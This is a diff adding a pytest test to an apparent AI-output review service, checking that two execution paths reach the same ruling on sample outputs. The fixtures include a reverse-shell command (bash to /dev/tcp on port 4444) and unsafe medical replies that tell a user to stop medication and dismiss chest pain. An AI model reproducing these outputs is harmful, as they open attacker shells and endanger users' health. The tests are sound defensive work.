@@ -209,3 +209,40 @@ def test_importing_graphs_loads_no_web_framework_sdk_or_driver() -> None:
     )
     out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
     assert out.stdout.strip() == ""
+
+
+CASES = [
+    request("You can stop taking your medication. Rest, drink water and walk daily; it helps most people a lot."),
+    request("I'm sorry, but I can't help with that."),
+    request("Sure: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse shell", domain="cyber"),
+    request("Probably nothing to worry about, just rest.", "I have chest pain and can't breathe"),
+    request("Whiskers is a fine name.", "Name my cat", domain=None),
+    request("Index funds are diversified; they carry market risk.", "Should I buy an index fund?", domain="finance"),
+]
+
+
+@pytest.mark.parametrize("mode", ["enforce", "label"])
+async def test_runner_and_graph_decide_the_same(mode: str) -> None:
+    """The straight-through runner and the compiled graph run the same nodes and routing."""
+    from graphs.review import build_review_runner
+    from service.reviewers.local import LocalReviewer
+
+    def fresh() -> ReviewPorts:
+        reviewer = LocalReviewer()
+        return ReviewPorts(policies=POLICIES, reviewers=FixedReviewers(reviewer), store=MemoryStore(),  # type: ignore[arg-type]
+                           sampler=lambda rate: False)
+
+    volatile = {"timings_ms", "created_at", "reviewer_outcome"}
+    for i, body in enumerate(CASES):
+        st = state(f"rev_eq{i}", body, hitl=False)
+        st["mode"] = mode
+        direct_ports, graph_ports = fresh(), fresh()
+        direct = await build_review_runner(direct_ports)(dict(st))  # type: ignore[arg-type]
+        graphed = await build_review_graph(graph_ports, None).ainvoke(dict(st))
+        assert direct["ruling"] == graphed["ruling"], body["output"]
+        assert ("decision" in direct) == ("decision" in graphed)
+        if "decision" in direct:
+            a = {k: v for k, v in direct["decision"].items() if k not in volatile}
+            b = {k: v for k, v in graphed["decision"].items() if k not in volatile}
+            assert a == b
+        assert len(direct_ports.store.saved) == len(graph_ports.store.saved)  # type: ignore[attr-defined]
